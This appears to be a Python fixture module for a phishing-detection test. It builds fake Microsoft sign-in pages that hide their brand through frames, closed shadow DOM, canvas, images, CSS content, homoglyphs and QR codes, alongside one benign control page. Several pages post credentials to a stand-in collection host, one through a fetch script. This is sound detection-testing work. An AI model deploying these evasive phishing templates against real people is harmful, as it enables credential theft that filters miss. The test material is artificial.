"""Phishing pages whose words are nowhere in the document: frames, shadow trees, canvases, pictures, QR codes, other brands' redirectors."""
import base64

from .. import looks
from ..description import Reply
from ..qr import qr_matrix
from . import phish
from .honest import page

BAD = {"brand": "Microsoft", "evidence": ("page.brand", "page.credentials")}
NAMELESS = {"evidence": ("page.brand|text.no_name", "page.credentials")}  # nothing that can be read names it


def build(world):
    def bad(name, address, does, body, disposition="phishing", **more):
        world.site(name, "hidden", "https://" + address, does, disposition, **{**BAD, "shows": "html", **more})
        world.at(address.split("?")[0], body)

    inner = phish.microsoft()
    coded = base64.b64encode(inner.encode()).decode()
    bad("hidden-frame", "team-notes-viewer.com/a", "The sign-in page is in a frame of another host, in a frame.",
        '<!doctype html><html><title>Notes</title><body style="margin:0"><iframe src="https://team-notes-frames.net/1" style="border:0;width:100%;height:99vh"></iframe></html>',
        brand_in_text=True)
    world.at("team-notes-frames.net/1",
             '<!doctype html><html><body style="margin:0"><iframe src="https://team-notes-inner.org/2" style="border:0;width:100%;height:99vh"></iframe></html>')
    world.at("team-notes-inner.org/2", inner)
    bad("hidden-shadow", "team-notes-shade.com/b", "The sign-in page is in a closed shadow tree.",
        f"<!doctype html><html><title>Notes</title><div id=h></div><script>h.attachShadow({{mode:'closed'}}).innerHTML=atob('{coded}')</script></html>",
        browser=True, brand_in_text=True)
    canvas = """<!doctype html><html><title>Sign in</title><body style="background:#f2f2f2;margin:0"><form method="post" action="/in" style="position:relative;width:440px;margin:12vh auto"><canvas id="c" width="440" height="338"></canvas>
<input name="a" style="position:absolute;left:44px;top:130px;width:350px;border:0;border-bottom:1px solid #666;padding:6px 0"><input name="b" type="password" style="position:absolute;left:44px;top:180px;width:350px;border:0;border-bottom:1px solid #666;padding:6px 0">
<button style="position:absolute;right:44px;top:260px;background:#0067b8;border:0;width:108px;height:32px"></button></form><script>var x=c.getContext('2d');x.fillStyle='#fff';x.fillRect(0,0,440,338);[['#f25022',44,40],['#7fba00',56,40],['#00a4ef',44,52],['#ffb900',56,52]].forEach(function(q){x.fillStyle=q[0];x.fillRect(q[1],q[2],11,11)});
x.fillStyle='#737373';x.font='600 20px Segoe UI';x.fillText('Micro'+'soft',74,60);x.fillStyle='#1b1b1b';x.font='600 24px Segoe UI';x.fillText('Sign in',44,105);x.font='13px Segoe UI';x.fillText('Forgot my pass'+'word',44,235)</script></html>"""
    bad("hidden-canvas", "team-notes-paint.com/c", "All words are drawn on a canvas.", canvas, browser=True, **NAMELESS)
    picture = looks.text("Microsoft  Sign in with your work account", 22)
    world.at("team-notes-image.com/head.png", lambda visit: Reply(looks.png(picture), media_type="image/png"))
    bad("hidden-picture", "team-notes-image.com/d", "The words are a picture; the fields are real.", """<!doctype html><html><title>.</title><body style="background:#f2f2f2"><form method="post" action="https://collect-forms.net/in" style="width:440px;margin:12vh auto;background:#fff;padding:40px">
<img src="/head.png" alt="" width="400"><p><input name="u" style="width:100%;padding:8px"></p><p><input name="p" type="password" style="width:100%;padding:8px"></p><button style="background:#0067b8;width:108px;height:32px;border:0"></button></form></html>""", **NAMELESS)
    world.at("team-notes-shot.com/page.png",
             lambda visit: Reply(looks.png(looks.text("Outlook Web App - session expired, sign in again", 26, "#fff", "#0078d4")), media_type="image/png"))
    bad("hidden-whole-picture", "team-notes-shot.com/e", "The page is one picture that leads on.",
        '<!doctype html><html><title>Mail</title><body style="margin:0"><a href="https://northgate-voicemail.com/secure/login.html"><img src="/page.png" alt="" style="width:100%"></a></html>',
        accept=("suspicious",), brand="Outlook")
    bad("hidden-css-text", "team-notes-style.com/f", "The words are in the style sheet.", """<!doctype html><html><title>.</title><style>body{font:15px Segoe UI;background:#f2f2f2}form{width:360px;margin:12vh auto;background:#fff;padding:44px}h2:before{content:"\\4d icrosoft"}p:before{content:"Enter your pass\\77 ord to keep your mailbox"}button:after{content:"Sign in"}input{width:100%;padding:7px;margin:6px 0}</style>
<form method="post" action="/x"><h2></h2><p></p><input name="u"><input name="p" type="password"><button></button></form></html>""", browser=True, **NAMELESS)
    bad("hidden-lookalike-letters", "team-notes-letters.com/g", "The brand's name in Cyrillic and with letters of no width.",
        inner.replace("Sign in", "Si\u200bgn i\u200bn").replace("<h1>", "<h2>\u041c\u0456\u0441\u0433\u043e\u0455\u043e\u0493t</h2><h1>"),
        brand_in_text=True)
    bad("hidden-no-form", "team-notes-div.com/h", "No form: fields that look like none, and a script that sends what is typed.", """<!doctype html><html><title>Sign in to your account</title><body style="font:15px Segoe UI;background:#f2f2f2"><div style="width:360px;margin:12vh auto;background:#fff;padding:44px">""" + looks.logo("microsoft") +
        """<h1>Sign in</h1><div contenteditable id="u" style="border-bottom:1px solid">Email</div><br><div contenteditable id="p" style="border-bottom:1px solid;-webkit-text-security:disc">password</div><br><span id="go" style="background:#0067b8;color:#fff;padding:8px 30px">Sign in</span></div>
<script>go.onclick=function(){fetch('https://collect-forms.net/in',{method:'POST',mode:'no-cors',body:u.textContent+'|'+p.textContent})}</script></html>""", brand_in_text=True)
    _qr(world, bad)
    world.site("hidden-known-brand-host", "hidden", "https://docs.google.com/forms/d/e/1FAIpQLSlab0001/viewform",
               "A form on a known brand's own service that asks for a password of another.", "phishing", accept=("suspicious",), brand="Microsoft",
               brand_in_text=True, shows="Mailbox")
    world.at("docs.google.com/forms/d/e/1FAIpQLSlab0001/viewform",
             page("IT Helpdesk - Mailbox upgrade", '<h1>Mailbox upgrade</h1><p>Microsoft Outlook users must confirm their accounts.</p><form method="post"><p>Email<br><input name="entry.1"></p><p>Password<br><input name="entry.2"></p><p>Confirm password<br><input name="entry.3"></p><button>Submit</button></form><p><small>Never submit passwords through Google Forms.</small></p>', "Google Forms", "#673ab7"))


def _qr(world, bad):
    target = "https://northgate-voicemail.com/secure/login.html"
    world.at("parking-notice-city.com/code.png", lambda visit: Reply(looks.png(looks.qr(target)), media_type="image/png"))
    bad("qr-picture", "parking-notice-city.com/n/11", "A QR code to a sign-in page, as the only way on.",
        '<!doctype html><html><title>Secure document</title><body style="font:16px sans-serif;text-align:center"><h2>Your document is ready</h2><p>For your safety, scan the code with your telephone.</p><img src="/code.png" alt=""></html>',
        evidence=("page.qr",), accept=("suspicious",))
    bad("qr-canvas", "parking-notice-city.net/n/12", "The same, drawn as a table of black and white cells.", _qr_table(target), evidence=("page.qr",),
        accept=("suspicious",))
    honest = "https://www.hollowlanebooks.com/events"
    world.at("www.hollowlanebooks.com/poster.png", lambda visit: Reply(looks.png(looks.qr(honest)), media_type="image/png"))
    world.site("qr-honest", "hidden", "https://www.hollowlanebooks.com/poster", "A poster with a QR code to the shop's own events.", "clean",
               shows="poster.png")
    world.at("www.hollowlanebooks.com/poster",
             page("Poster", '<h1>Print our poster</h1><p>Hang it in your window; the code leads to our events.</p><img src="/poster.png" alt="QR code">'))


def _qr_table(target):
    rows = "".join("<tr>" + "".join(f"<td{' class=k' if bit else ''}>" for bit in row) for row in qr_matrix(target.encode()))
    return f"<!doctype html><html><title>Scan to sign in</title><style>table{{border-spacing:0;margin:40px auto}}td{{width:7px;height:7px;padding:0}}.k{{background:#000}}</style><body style='text-align:center;font:16px sans-serif'><p>Scan to confirm your second factor</p><table>{rows}</table></html>"
